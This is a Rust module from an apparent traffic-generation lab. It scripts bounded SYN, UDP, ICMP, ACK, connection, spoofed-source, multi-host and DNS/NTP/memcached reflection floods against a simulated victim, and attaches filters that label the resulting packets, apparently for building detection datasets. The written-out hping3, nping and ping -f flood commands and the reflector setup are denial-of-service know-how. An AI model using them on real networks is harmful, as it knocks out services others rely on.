//! Floods: TCP, UDP and ICMP at a rate, from one source, from many or from made-up ones, and reflected by servers.
//!
//! Every flood has a count and a rate, so it ends by itself and stays small enough to be looked at.

use super::{MS_MAX, Needs, PlanFn, attacker, listeners};
use crate::lab::{
    filter::{Filter, Term},
    plan::{Ends, Plan, Proof, Ready, Scenario, Service, Step, Wish},
    rng::Rng,
    servers::{self, PYTHON},
    world::{Host, Shape, World},
};

const HPING: Needs = &[("hping3", "hping3"), ("nping", "nmap"), ("nginx", "nginx-light"), ("lighttpd", "lighttpd")];
const REFLECT: Needs = &[("dnsmasq", "dnsmasq-base")];
const SEVERAL: Shape = Shape { outside: 5, ..Shape::SMALL };
const REFLECTORS: Shape = Shape { outside: 5, ..Shape::SMALL };

pub(super) static SCENARIOS: &[Scenario] = &[
    scenario("flood-syn", "DOS_FLOOD", "hping3, nping, script: SYN", HPING, syn),
    scenario("flood-udp", "DOS_FLOOD", "hping3, nping, script: UDP of several sizes", HPING, udp),
    scenario("flood-icmp", "DOS_FLOOD", "hping3, ping -f, script: echo requests", HPING, icmp),
    scenario("flood-ack", "DOS_FLOOD", "hping3, script: ACK, PSH+ACK, RST, FIN, XMAS", HPING, ack),
    scenario("flood-connect", "DOS_FLOOD", "script: connections that are opened and left", HPING, connect),
    scenario("flood-spoofed", "DDOS", "hping3 --rand-source, script: SYN and UDP from made-up sources", HPING, spoofed),
    Scenario { shape: SEVERAL, ..scenario("flood-botnet", "DDOS", "hping3 and script from five hosts", HPING, botnet) },
    Scenario {
        shape: REFLECTORS,
        ..scenario(
            "flood-reflected",
            "DDOS",
            "DNS, NTP, SSDP, memcached, CLDAP answers to forged questions",
            REFLECT,
            reflected,
        )
    },
];

const fn scenario(
    name: &'static str,
    family: &'static str,
    tools: &'static str,
    needs: Needs,
    plan: PlanFn,
) -> Scenario {
    Scenario { name, family, tools, needs, shape: Shape::SMALL, plan }
}

/// Packets a second and how many in all.
fn volume(rng: &mut Rng) -> (u64, u64) {
    let rate = rng.pick(&[150, 300, 600, 1_200, 2_500]);
    (rate, rate * rng.range(6, 14))
}

/// A web server to be flooded, so that the port answers; gives the port.
fn target(plan: &mut Plan, world: &World, rng: &mut Rng) -> u16 {
    let on = &world.servers[0].name;
    let port = rng.pick(&[80, 443, 8_080]);
    match rng.range(1, 4) {
        1 => servers::nginx(plan, on, port, world, rng),
        2 => servers::lighttpd(plan, on, port, rng),
        3 => servers::python_http(plan, on, port, rng),
        _ => {
            plan.services.push(listeners(on, rng));
            return rng.pick(&[22, 80]);
        }
    }
    port
}

fn flood(plan: &mut Plan, rng: &mut Rng, from: &Host, tool: &str, line: &str, proof: Proof) {
    tool.clone_into(&mut plan.subtype);
    let tool = tool.split(' ').next().unwrap_or_default();
    plan.environment = format!("{}-{tool}", plan.environment);
    plan.steps.push(Step::new(&from.name, line, rng.range(2_000, 8_000), MS_MAX, Ends::Anyhow));
    plan.filter = Filter::from_hosts(from.all_v4());
    plan.proof = proof;
}

/// What the lab's own flooder is asked for.
fn script(rng: &mut Rng, mode: &str, rate: u64, count: u64, rest: &str) -> String {
    let seed = rng.range(1, 99_999);
    format!("{PYTHON} {{lab}}/flood.py --seed {seed} --mode {mode} --rate {rate} --count {count} {rest}")
}

fn hping(mode: &str, rate: u64, count: u64, rest: &str) -> String {
    format!("hping3 -q -n {mode} -i u{} -c {count} {rest}", 1_000_000 / rate)
}

fn syn(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-syn", "");
    let port = target(&mut plan, world, rng);
    let from = attacker(world, rng);
    let victim = world.servers[0].v4;
    let (rate, count) = volume(rng);
    let (tool, line) = match rng.range(1, 3) {
        1 => {
            let rest = rng.pick(&["", "-d 120", "-w 64"]);
            ("hping3 SYN", hping("-S", rate, count, &format!("-p {port} {rest} {victim}")))
        }
        2 => {
            let line = format!(
                "nping --tcp --flags syn -p {port} --rate {rate} -c {count} -q -N -g {} {victim}",
                rng.range(2_000, 60_000)
            );
            ("nping SYN", line)
        }
        _ => ("script SYN", script(rng, "syn", rate, count, &format!("--to {victim} --port {port}"))),
    };
    // nping keeps to one source port: one flow of many packets.
    flood(&mut plan, rng, from, tool, &line, Proof { flows: 1, sent: 0, answered: 1 });
    plan
}

fn udp(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-udp", "");
    plan.services.push(listeners(&world.servers[0].name, rng));
    let from = attacker(world, rng);
    let victim = world.servers[0].v4;
    let (rate, count) = volume(rng);
    let port = rng.pick(&[53, 80, 123, 443, 5_060, 9_987, 27_015, 47_000]);
    let size = rng.pick(&[18, 64, 180, 512, 1_200]);
    let (tool, line) = match rng.range(1, 3) {
        1 => {
            let keep = rng.pick(&["", "--keep"]);
            ("hping3 UDP", hping("--udp", rate, count, &format!("-p {port} -d {size} {keep} {victim}")))
        }
        2 => {
            let line = format!("nping --udp -p {port} --data-length {size} --rate {rate} -c {count} -q -N {victim}");
            ("nping UDP", line)
        }
        _ => {
            let many = rng.pick(&["", "--ports"]);
            (
                "script UDP",
                script(rng, "udp", rate, count, &format!("--to {victim} --port {port} --size {size} {many}")),
            )
        }
    };
    flood(&mut plan, rng, from, tool, &line, Proof { flows: 1, sent: 1, answered: 0 });
    plan
}

fn icmp(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-icmp", "");
    let from = attacker(world, rng);
    let victim = world.servers[0].v4;
    let (rate, count) = volume(rng);
    let size = rng.pick(&[8, 56, 400, 1_200]);
    let (tool, line) = match rng.range(1, 3) {
        1 => ("hping3 ICMP", hping("--icmp", rate, count, &format!("-d {size} {victim}"))),
        2 => ("ping flood", format!("ping -f -q -n -s {size} -c {} {victim}", count.min(9_000))),
        _ => ("script ICMP", script(rng, "icmp", rate, count, &format!("--to {victim} --size {size}"))),
    };
    flood(&mut plan, rng, from, tool, &line, Proof { flows: 1, sent: 1, answered: 1 });
    plan
}

fn ack(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-ack", "");
    let port = target(&mut plan, world, rng);
    let from = attacker(world, rng);
    let victim = world.servers[0].v4;
    let (rate, count) = volume(rng);
    let (tool, line) = if rng.once_in(2) {
        let flags = rng.pick(&["-A", "-A -P", "-R", "-F", "-F -P -U"]);
        ("hping3 ACK", hping(flags, rate, count, &format!("-p {port} -d {} {victim}", rng.pick(&[0, 64, 400]))))
    } else {
        let mode = rng.pick(&["ack", "pshack", "rst", "xmas"]);
        ("script ACK", script(rng, mode, rate, count, &format!("--to {victim} --port {port}")))
    };
    flood(&mut plan, rng, from, tool, &line, Proof { flows: 1, sent: 0, answered: 0 });
    plan.proof.flows = 100;
    plan
}

fn connect(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-connect", "");
    let port = target(&mut plan, world, rng);
    let from = attacker(world, rng);
    let rate = rng.pick(&[60, 150, 400]);
    let count = rate * rng.range(6, 12);
    let line = script(rng, "connect", rate, count, &format!("--to {} --port {port}", world.servers[0].v4));
    flood(&mut plan, rng, from, "script connections", &line, Proof { flows: 200, sent: 0, answered: 100 });
    plan
}

/// The victim has an address of its own for this, by which the label knows the packets.
fn spoofed(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-spoofed", "");
    let port = target(&mut plan, world, rng);
    let from = &world.outside[0];
    let victim = world.servers[0].more[0];
    let (rate, count) = volume(rng);
    let count = count.min(9_000);
    let (tool, line) = match rng.range(1, 4) {
        1 => ("hping3 SYN rand-source", hping("-S --rand-source", rate, count, &format!("-p {port} {victim}"))),
        2 => {
            let size = rng.pick(&[32, 400]);
            ("hping3 UDP rand-source", hping("--udp --rand-source", rate, count, &format!("-p 53 -d {size} {victim}")))
        }
        3 => {
            let nets = rng.pick(&["--sources 3", "--sources 300", "--sources 8000"]);
            ("script spoofed SYN", script(rng, "syn", rate, count, &format!("--to {victim} --port {port} {nets}")))
        }
        _ => {
            let nets = rng.pick(&["--sources 40", "--sources 3000"]);
            let rest = format!("--to {victim} --port {} --size 256 {nets}", rng.pick(&[53, 80, 27_015]));
            ("script spoofed UDP", script(rng, "udp", rate, count, &rest))
        }
    };
    flood(&mut plan, rng, from, tool, &line, Proof { flows: 200, sent: 0, answered: 0 });
    // What the victim sends back to who never asked belongs to it.
    plan.filter = Filter::all_of(&[Term::Dst(victim.into())]).or(&[Term::Src(victim.into())]);
    plan
}

fn botnet(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-botnet", "several hosts at once");
    let port = target(&mut plan, world, rng);
    let victim = world.servers[0].v4;
    let rate = rng.pick(&[60, 150, 400]);
    let mode = rng.pick(&["-S", "--udp -d 300", "-A", "--icmp"]);
    plan.environment = format!("flood-botnet-{}", rng.pick(&["hping3", "script"]));
    let start_ms = rng.range(2_000, 6_000);
    for from in &world.outside {
        let count = rate * rng.range(6, 12);
        let line = if plan.environment.ends_with("hping3") {
            hping(mode, rate, count, &format!("-p {port} {victim}"))
        } else {
            let mode = rng.pick(&["syn", "udp", "ack"]);
            script(rng, mode, rate, count, &format!("--to {victim} --port {port}"))
        };
        plan.steps.push(Step::new(&from.name, &line, start_ms + rng.range(0, 2_500), MS_MAX, Ends::Anyhow));
    }
    plan.filter = Filter::from_hosts(world.outside.iter().flat_map(Host::all_v4));
    plan.proof = Proof { flows: 5, sent: 0, answered: 0 };
    plan
}

/// Servers in the internet answer questions that the attacker asks in the victim's name.
fn reflected(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("flood-reflected", "");
    let (kind, port) =
        rng.pick(&[("dns", 53), ("dns", 53), ("ntp", 123), ("ssdp", 1_900), ("memcached", 11_211), ("cldap", 389)]);
    let victim = world.servers[0].more[0];
    let reflectors = &world.outside[1..];
    for site in reflectors {
        let service = if kind == "dns" {
            let long = "v=spf1 include:a.example include:b.example include:c.example include:d.example ~all ".repeat(2);
            plan.files.push((
                format!("{}.txt", site.name),
                format!("txt-record=big.test,{}\n", long.trim().replace(' ', ",")),
            ));
            let line = format!(
                "dnsmasq --keep-in-foreground --conf-file={{dir}}/{}.txt --no-resolv --no-hosts --pid-file= --user=root",
                site.name
            );
            Service::new(&site.name, &line, Ready::Udp(port))
        } else {
            Service::new(&site.name, &format!("{PYTHON} {{lab}}/reflector.py {kind} {port}"), Ready::Udp(port))
        };
        plan.services.push(service);
    }
    let rate = rng.pick(&[150, 400, 900]);
    let count = rate * rng.range(6, 12);
    let hosts: Vec<String> = reflectors.iter().map(|site| site.v4.to_string()).collect();
    let rest = format!("--to {} --port {port} --from {victim}", hosts.join(","));
    let line = script(rng, kind, rate, count, &rest);
    flood(&mut plan, rng, &world.outside[0], kind, &line, Proof { flows: 3, sent: 3, answered: 0 });
    plan.subtype = format!("{kind} reflection");
    plan.filter = Filter::all_of(&[Term::Dst(victim.into()), Term::SrcPort(port), Term::Udp]);
    plan
}
